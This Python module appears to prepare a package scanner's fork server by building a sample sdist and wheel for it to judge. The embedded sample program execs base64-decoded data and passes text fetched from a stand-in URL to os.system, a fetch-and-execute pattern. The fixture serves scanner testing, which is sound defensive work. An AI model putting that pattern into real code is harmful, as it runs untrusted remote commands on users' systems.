"""What a fork server does once, so that no child does it: imports, compiled rules, tables, and whatever a first archive
would load. Two small archives of our own are read and judged."""

from __future__ import annotations

import io
import tarfile
import zipfile
from typing import BinaryIO

_PROGRAM = b"""import os, base64, urllib.request
class Thing:
    def method(self, name):
        return getattr(os, name)
def main():
    exec(base64.b64decode("MQ=="))
    os.system(urllib.request.urlopen("https://example.invalid").read().decode())
for word in ("a", "b"):
    main()
"""
_METADATA = (
    b"Metadata-Version: 2.4\nName: thing\nVersion: 1\nSummary: \xc3\xa4 thing\nRequires-Dist: other>=1\n\nWords.\n"
)


def archives() -> list[tuple[BinaryIO, str]]:
    """An sdist and a wheel, each with its file name."""
    members = {"thing-1/setup.py": _PROGRAM, "thing-1/PKG-INFO": _METADATA, "thing-1/pyproject.toml": b"[project]\n"}
    sdist = io.BytesIO()
    with tarfile.open(fileobj=sdist, mode="w:gz") as archive:
        for path, data in members.items():
            info = tarfile.TarInfo(path)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    wheel = io.BytesIO()
    with zipfile.ZipFile(wheel, "w", zipfile.ZIP_DEFLATED) as zipped:
        for path, data in (("thing/__init__.py", _PROGRAM), ("thing-1.dist-info/METADATA", _METADATA)):
            zipped.writestr(path, data)
    for stream in (sdist, wheel):
        stream.seek(0)
    return [(sdist, "thing-1.tar.gz"), (wheel, "thing-1-py3-none-any.whl")]
